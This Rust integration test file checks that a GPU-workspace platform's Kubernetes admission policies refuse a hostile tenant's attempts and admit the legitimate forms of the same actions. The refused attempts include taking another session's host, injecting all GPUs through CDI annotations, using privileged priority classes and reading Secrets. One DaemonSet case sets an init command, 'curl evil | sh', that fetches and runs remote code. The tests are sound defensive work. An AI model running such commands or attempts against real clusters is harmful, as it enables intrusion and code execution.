//! A hostile neighbour gets nothing, round 2, on a real API server (v1.36)
//! with deploy/ applied: each attack made as the account that would make
//! it — a user with `edit` in a namespace of their own, the session's user,
//! deploy/'s berth-worker — refused with a clear message, beside the
//! legitimate form of the same action, admitted. Writes are dry runs unless
//! a later step needs the object.

use crate::common;
use crate::policy::attack;
use crate::policy::session;

use attack::*;
use common::kube_stack::{stack, As};
use kube::api::{Api, DynamicObject};
use serde_json::json;
use server::provisioner::manifests::{self, Cluster};
use server::provisioner::snapshot::resource;

const MIG: &str = "nvidia.com/mig-1g.24gb";
/// Someone with `edit` in a namespace of their own, outside every session.
const MALLORY: &str = "mallory@example.test";

/// The workspace domain deploy/'s berth-config sets (the hosts policy's parameter).
async fn configured_domain(admin: &kube::Client) -> String {
    let maps: Api<DynamicObject> = Api::namespaced_with(admin.clone(), "berth", &resource("v1", "ConfigMap"));
    let config = maps.get("berth-config").await.unwrap();
    config.data["data"]["BERTH_WORKSPACE_DOMAIN"].as_str().unwrap().to_string()
}

/// A namespace that is no session, where `user` has the built-in `edit` role.
async fn own_namespace(admin: &kube::Client, name: &str, user: &str) {
    let objects = [
        json!({ "apiVersion": "v1", "kind": "Namespace", "metadata": { "name": name } }),
        json!({ "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
            "metadata": { "name": "edit", "namespace": name },
            "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit" },
            "subjects": [{ "apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user }] }),
        // OpenShift aggregates Routes into `edit`; a plain API server needs it said.
        json!({ "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
            "metadata": { "name": "routes", "namespace": name },
            "rules": [{ "apiGroups": ["route.openshift.io"], "resources": ["routes", "routes/custom-host"],
                        "verbs": ["create", "update", "patch"] }] }),
        json!({ "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
            "metadata": { "name": "routes", "namespace": name },
            "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "routes" },
            "subjects": [{ "apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user }] }),
    ];
    ensure(admin, objects.into()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hosts_under_the_workspace_domain_are_published_by_the_session_that_owns_them_only() {
    let Some(stack) = stack() else { return };
    let (admin, worker) = (stack.client(As::Admin).await, stack.client(As::Worker).await);
    let domain = configured_domain(&admin).await;
    let real = Cluster { domain: domain.clone(), ..cluster() };
    let mine = session::session("team-h", "2f0e0d0c-0b0a-4908-8706-050403020100", MIG, &[("berth.io/pool", "a")]);
    set_up(&worker, &mine, &real).await;
    settled(&admin, &mine.namespace()).await;
    let host = manifests::host(&mine, &real);
    own_namespace(&admin, "team-own", MALLORY).await;
    let mallory = stack.client(As::User(MALLORY)).await;
    let open_path = json!({ "spec": { "rules": [{ "host": host, "http": { "paths": [{ "path": "/.berth/open",
        "pathType": "Prefix", "backend": { "service": { "name": "catch", "port": { "number": 80 } } } }] } }] } });

    in_force("berth-workspace-hosts", || create(&mallory, "team-own", ingress("i", Some(&host), json!({})))).await;
    in_force("berth-workspace-routes", || create(&mallory, "team-own", route(Some(&host), "None"))).await;
    let refused = [
        ("the session's exact host, on the gate's open path", ingress("i", Some(&host), open_path)),
        ("a name under the session's host", ingress("i", Some(&format!("x.{host}")), json!({}))),
        ("any other name under the domain", ingress("i", Some(&format!("unclaimed.{domain}")), json!({}))),
        ("a wildcard over every workspace", ingress("i", Some(&format!("*.{domain}")), json!({}))),
        (
            "the session's host in TLS only (its certificate)",
            ingress("i", Some("models.team.example.net"), json!({ "spec": { "tls": [{ "hosts": [host] }] } })),
        ),
        ("a Route for the session's host", route(Some(&host), "None")),
    ];
    for (case, object) in refused {
        match create(&mallory, "team-own", object).await {
            Ok(()) => panic!("should be refused outside the session: {case}"),
            Err(message) => assert!(message.contains("belong to Berth sessions"), "{case}: {message}"),
        }
    }
    // The same user's own names stay theirs, and the session its own host.
    let admitted = [
        ("a host outside the domain", ingress("i", Some("models.team.example.net"), json!({}))),
        ("a Route outside the domain", route(Some("models.team.example.net"), "None")),
        ("the domain itself (the portal's host)", ingress("i", Some(&domain), json!({}))),
    ];
    for (case, object) in admitted {
        assert_eq!(create(&mallory, "team-own", object).await, Ok(()), "should be admitted: {case}");
    }
    let user = stack.client(As::User(session::USER)).await;
    let ns = mine.namespace();
    assert_eq!(create(&user, &ns, ingress("i", Some(&format!("api.{host}")), json!({}))).await, Ok(()));
    assert_eq!(create(&user, &ns, route(Some(&host), "None")).await, Ok(()));
    // A cluster admin is no exception: no one outside the session takes its host.
    let said = create(&admin, "default", ingress("i", Some(&host), json!({}))).await.unwrap_err();
    assert!(said.contains("belong to Berth sessions"), "{said}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn session_pods_keep_to_the_pools_priority_and_runtime_class_and_inject_no_devices() {
    let Some(stack) = stack() else { return };
    let (admin, worker) = (stack.client(As::Admin).await, stack.client(As::Worker).await);
    let class = |kind: &str, name: &str, extra: serde_json::Value| {
        let mut object = json!({ "apiVersion": "", "kind": kind, "metadata": { "name": name } });
        merge(&mut object, extra);
        object
    };
    ensure(
        &admin,
        vec![
            class("PriorityClass", "gpu-interactive", json!({ "apiVersion": "scheduling.k8s.io/v1", "value": 1000 })),
            class("PriorityClass", "gpu-batch", json!({ "apiVersion": "scheduling.k8s.io/v1", "value": 900 })),
            class("RuntimeClass", "nvidia", json!({ "apiVersion": "node.k8s.io/v1", "handler": "nvidia" })),
            class("RuntimeClass", "kata", json!({ "apiVersion": "node.k8s.io/v1", "handler": "kata" })),
        ],
    )
    .await;
    let mut mine = session::session("team-c", "3f0e0d0c-0b0a-4908-8706-050403020100", MIG, &[("berth.io/pool", "a")]);
    mine.placement.priority_class = Some("gpu-interactive".into());
    mine.placement.runtime_class = Some("nvidia".into());
    let plain = session::session("team-c", "4f0e0d0c-0b0a-4908-8706-050403020100", MIG, &[("berth.io/pool", "a")]);
    set_up(&worker, &mine, &cluster()).await;
    set_up(&worker, &plain, &cluster()).await;
    let (ns, plain_ns) = (mine.namespace(), plain.namespace());
    settled(&admin, &ns).await;
    settled(&admin, &plain_ns).await;
    let user = stack.client(As::User(session::USER)).await;
    let spec = |extra: serde_json::Value| {
        let mut spec = json!({ "nodeSelector": { "berth.io/pool": "a" }, "containers": [container(json!({}))] });
        merge(&mut spec, extra);
        spec
    };
    let with_annotation = |key: &str, value: &str| annotated(pod("p", spec(json!({}))), key, value);

    let critical = || create(&user, &ns, pod("p", spec(json!({ "priorityClassName": "system-node-critical" }))));
    in_force("berth-session-pod-fields", critical).await;
    let cdi_job = || {
        let job = json!({ "apiVersion": "batch/v1", "kind": "Job", "metadata": { "name": "j" },
            "spec": { "template": { "metadata": { "annotations": { "cdi.k8s.io/x": "y" } },
            "spec": spec(json!({ "restartPolicy": "Never" })) } } });
        create(&user, &ns, job)
    };
    in_force("berth-session-pod-templates", cdi_job).await;
    let cdi_cron = || {
        let cron = json!({ "apiVersion": "batch/v1", "kind": "CronJob", "metadata": { "name": "c" },
            "spec": { "schedule": "0 * * * *", "jobTemplate": { "spec": { "template": {
            "metadata": { "annotations": { "cdi.k8s.io/x": "y" } }, "spec": spec(json!({ "restartPolicy": "Never" })) } } } } });
        create(&user, &ns, cron)
    };
    in_force("berth-session-cronjob-templates", cdi_cron).await;
    let workspace = serde_json::to_value(manifests::deployment(&mine, &cluster())).unwrap();
    assert_eq!(workspace["spec"]["template"]["spec"]["priorityClassName"], "gpu-interactive");
    let admitted = [
        ("the workspace pod, at the pool's classes", pod("ws", workspace["spec"]["template"]["spec"].clone())),
        ("a pod naming no class", pod("p", spec(json!({})))),
        (
            "a pod at the pool's priority and runtime class",
            pod("p", spec(json!({ "priorityClassName": "gpu-interactive", "runtimeClassName": "nvidia" }))),
        ),
        ("a pod with an ordinary annotation", with_annotation("prometheus.io/scrape", "true")),
    ];
    for (case, object) in admitted {
        assert_eq!(create(&user, &ns, object).await, Ok(()), "should be admitted: {case}");
    }
    let deployment = |template: serde_json::Value| {
        json!({ "apiVersion": "apps/v1", "kind": "Deployment", "metadata": { "name": "serve" },
            "spec": { "selector": { "matchLabels": { "app": "serve" } }, "template": template } })
    };
    let cdi = json!({ "cdi.k8s.io/nvidia": "nvidia.com/gpu=all" });
    let refused = [
        (
            "a pod at system-node-critical (preempts other tenants on the pool's nodes)",
            pod("p", spec(json!({ "priorityClassName": "system-node-critical" }))),
            "only their pool's priority class gpu-interactive",
        ),
        ("another existing class", pod("p", spec(json!({ "priorityClassName": "gpu-batch" }))), "priority class"),
        ("another runtime class", pod("p", spec(json!({ "runtimeClassName": "kata" }))), "runtime class nvidia"),
        (
            "every GPU of the node by CDI annotation",
            with_annotation("cdi.k8s.io/nvidia", "nvidia.com/gpu=all"),
            "device-injection annotations (cdi.k8s.io/nvidia)",
        ),
        (
            "a CDI annotation under any other key",
            with_annotation("cdi.k8s.io/anything-at-all", "nvidia.com/gpu=0"),
            "device-injection",
        ),
        (
            "CRI-O's device annotation",
            with_annotation("io.kubernetes.cri-o.Devices", "/dev/nvidia0"),
            "device-injection",
        ),
        (
            "a Kata guest's device passthrough",
            with_annotation("io.katacontainers.config.hypervisor.hot_plug_vfio", "root-port"),
            "device-injection",
        ),
        (
            "a Deployment whose pods would carry the CDI annotation",
            deployment(json!({ "metadata": { "labels": { "app": "serve" }, "annotations": cdi },
                "spec": spec(json!({})) })),
            "pod templates of a Berth session may not carry device-injection annotations",
        ),
        (
            "a Job template at system-node-critical",
            json!({ "apiVersion": "batch/v1", "kind": "Job", "metadata": { "name": "j" },
                "spec": { "template": { "spec": spec(json!({ "restartPolicy": "Never",
                "priorityClassName": "system-node-critical" })) } } }),
            "priority class",
        ),
        (
            "a CronJob whose pods would carry the CDI annotation",
            json!({ "apiVersion": "batch/v1", "kind": "CronJob", "metadata": { "name": "c" },
                "spec": { "schedule": "0 * * * *", "jobTemplate": { "spec": { "template": {
                "metadata": { "annotations": cdi }, "spec": spec(json!({ "restartPolicy": "Never" })) } } } } }),
            "device-injection",
        ),
        (
            "devices by dynamic resource allocation",
            pod(
                "p",
                json!({ "nodeSelector": { "berth.io/pool": "a" },
                "resourceClaims": [{ "name": "gpu", "resourceClaimName": "all-gpus" }],
                "containers": [{ "name": "main", "image": "python:3.12", "resources": { "claims": [{ "name": "gpu" }] } }] }),
            ),
            "dynamic resource allocation",
        ),
        ("another scheduler", pod("p", spec(json!({ "schedulerName": "my-scheduler" }))), "default scheduler"),
    ];
    for (case, object, said) in refused {
        refused_with(case, create(&user, &ns, object).await, said);
    }
    // A session of a pool that names no class: none at all.
    assert_eq!(create(&user, &plain_ns, pod("p", spec(json!({})))).await, Ok(()));
    let said = create(&user, &plain_ns, pod("p", spec(json!({ "priorityClassName": "gpu-interactive" })))).await;
    refused_with("a class in a pool that names none", said, "may use no priority class");
    let said = create(&user, &plain_ns, pod("p", spec(json!({ "runtimeClassName": "nvidia" })))).await;
    refused_with("a runtime class in a pool that names none", said, "may use no runtime class");

    // A pending pod's annotations reach the runtime when it starts: adding
    // one later is refused as well.
    ensure(
        &user,
        vec![{
            let mut p = pod("pending", spec(json!({})));
            p["metadata"]["namespace"] = json!(ns);
            p
        }],
    )
    .await;
    let pods: Api<DynamicObject> = Api::namespaced_with(user.clone(), &ns, &resource("v1", "Pod"));
    let dry = kube::api::PatchParams { dry_run: true, ..Default::default() };
    let patch = json!({ "metadata": { "annotations": { "cdi.k8s.io/late": "nvidia.com/gpu=all" } } });
    let said = outcome(pods.patch("pending", &dry, &kube::api::Patch::Merge(&patch)).await);
    refused_with("a CDI annotation added to a pending pod", said, "device-injection");
    let patch = json!({ "metadata": { "annotations": { "note": "mine" } } });
    assert_eq!(outcome(pods.patch("pending", &dry, &kube::api::Patch::Merge(&patch)).await), Ok(()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_workers_account_runs_only_pinned_placeholders_and_the_image_cache_in_berths_namespace() {
    use server::provisioner::manifests::ahead::{self, AheadMode, ScaleAhead};
    use server::provisioner::manifests::{image_cache_daemon_set, ImageCache};
    let Some(stack) = stack() else { return };
    let worker = stack.client(As::Worker).await;
    let session = session::session("team-w", "5f0e0d0c-0b0a-4908-8706-050403020100", MIG, &[("berth.io/pool", "a")]);
    let pause = "registry.k8s.io/pause:3.10";
    let scale =
        ScaleAhead { lead: chrono::Duration::minutes(30), mode: AheadMode::Placeholder, pause_image: pause.into() };
    let placeholder = ahead::objects(&session, &cluster(), &scale).remove(0);
    let cache = ImageCache {
        images: vec![],
        registries: vec!["nvcr.io/nvidia".into()],
        node_selector: [("nvidia.com/gpu.present".to_string(), "true".to_string())].into(),
        pause_image: pause.into(),
    };
    let digest = "a".repeat(64);
    let images = [format!("nvcr.io/nvidia/pytorch@sha256:{digest}")];
    let daemon_set = serde_json::to_value(image_cache_daemon_set("berth", &cache, &images)).unwrap();
    let mut renamed = daemon_set.clone();
    renamed["metadata"]["name"] = json!("node-agent");
    in_force("berth-worker-image-cache", || create(&worker, "berth", renamed.clone())).await;
    let mut pinned = placeholder.clone();
    pinned["spec"]["template"]["spec"]["containers"][0]["image"] = json!("busybox");
    in_force("berth-worker-placeholders", || create(&worker, "berth", pinned.clone())).await;
    assert_eq!(create(&worker, "berth", placeholder.clone()).await, Ok(()), "a booking's placeholder");
    assert_eq!(create(&worker, "berth", daemon_set.clone()).await, Ok(()), "the image cache");

    // The portal's pods, as the worker would make them to take its traffic.
    let mut portal_labels = placeholder.clone();
    portal_labels["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/name"] = json!("berth-portal");
    let mut with_secrets = placeholder.clone();
    with_secrets["spec"]["template"]["spec"]["containers"][0]["envFrom"] =
        json!([{ "secretRef": { "name": "berth-database" } }]);
    let mut with_volume = placeholder.clone();
    with_volume["spec"]["template"]["spec"]["volumes"] =
        json!([{ "name": "oidc", "secret": { "secretName": "berth-oidc" } }]);
    let mut other_image = placeholder.clone();
    other_image["spec"]["template"]["spec"]["containers"][0]["image"] =
        json!("registry.example.org/platform/berth:0.1.0");
    let mut second = placeholder.clone();
    let mut extra = second["spec"]["template"]["spec"]["containers"][0].clone();
    extra["name"] = json!("sidecar");
    second["spec"]["template"]["spec"]["containers"].as_array_mut().unwrap().push(extra);
    let mut with_command = placeholder.clone();
    with_command["spec"]["template"]["spec"]["containers"][0]["command"] = json!(["/bin/sh", "-c", "serve"]);
    let mut as_portal = placeholder.clone();
    as_portal["spec"]["template"]["spec"]["serviceAccountName"] = json!("berth-portal");
    for (case, object) in [
        ("pods labelled as the portal's (its Service's selector)", portal_labels),
        ("pods reading the database Secret", with_secrets),
        ("pods mounting the OIDC Secret", with_volume),
        ("another image", other_image),
        ("a second container", second),
        ("a command of its own", with_command),
        ("the portal's account", as_portal),
    ] {
        refused_with(case, create(&worker, "berth", object).await, "placeholder");
    }
    let mut ds_as_portal = daemon_set.clone();
    ds_as_portal["spec"]["template"]["spec"]["serviceAccountName"] = json!("berth-portal");
    let mut ds_named = daemon_set.clone();
    ds_named["metadata"]["name"] = json!("node-agent");
    let mut ds_pull_runs = daemon_set.clone();
    ds_pull_runs["spec"]["template"]["spec"]["initContainers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]);
    let mut ds_secret = daemon_set.clone();
    ds_secret["spec"]["template"]["spec"]["containers"][0]["envFrom"] =
        json!([{ "secretRef": { "name": "berth-oidc" } }]);
    for (case, object) in [
        ("a DaemonSet as the portal's account", ds_as_portal),
        ("a DaemonSet that is not the image cache", ds_named),
        ("an image pull that runs something", ds_pull_runs),
        ("the image cache reading a Secret", ds_secret),
    ] {
        refused_with(case, create(&worker, "berth", object).await, "the image cache (berth-image-cache)");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_worker_only_marks_a_backfill_namespace_and_changes_nothing_else_of_it() {
    let Some(stack) = stack() else { return };
    let (admin, worker) = (stack.client(As::Admin).await, stack.client(As::Worker).await);
    ensure(
        &admin,
        vec![json!({ "apiVersion": "v1", "kind": "Namespace", "metadata": { "name": "team-batch",
            "labels": { "pod-security.kubernetes.io/enforce": "baseline", "team": "batch" } } })],
    )
    .await;
    let namespaces: Api<DynamicObject> = Api::all_with(worker.clone(), &resource("v1", "Namespace"));
    let dry = kube::api::PatchParams { dry_run: true, ..Default::default() };
    let patch = |metadata: serde_json::Value| {
        let (namespaces, dry) = (namespaces.clone(), dry.clone());
        async move {
            let body = json!({ "metadata": metadata });
            outcome(namespaces.patch("team-batch", &dry, &kube::api::Patch::Merge(&body)).await)
        }
    };
    in_force("berth-worker-scope", || patch(json!({ "labels": { "team": "mine" } }))).await;
    let marks = json!({ "labels": { "berth.io/backfill": "861c3a7c-e77b-4766-9d2f-5901933eeed4" },
        "annotations": { "berth.io/node-selector.0": "berth.io/pool=a", "berth.io/gpu-kind.0": MIG } });
    assert_eq!(patch(marks).await, Ok(()), "Berth's marks");
    for (case, metadata) in [
        ("another label", json!({ "labels": { "team": "mine" } })),
        ("a session's label", json!({ "labels": { "berth.io/booking": "0f0e0d0c-0b0a-4908-8706-050403020100" } })),
        ("Pod Security relaxed", json!({ "labels": { "pod-security.kubernetes.io/enforce": "privileged" } })),
        ("another annotation", json!({ "annotations": { "scheduler.alpha.kubernetes.io/node-selector": "a=b" } })),
    ] {
        refused_with(case, patch(metadata).await, "labelled berth.io/booking");
    }
    let delete = kube::api::DeleteParams { dry_run: true, ..Default::default() };
    refused_with("deleting it", outcome(namespaces.delete("team-batch", &delete).await), "labelled berth.io/booking");
}
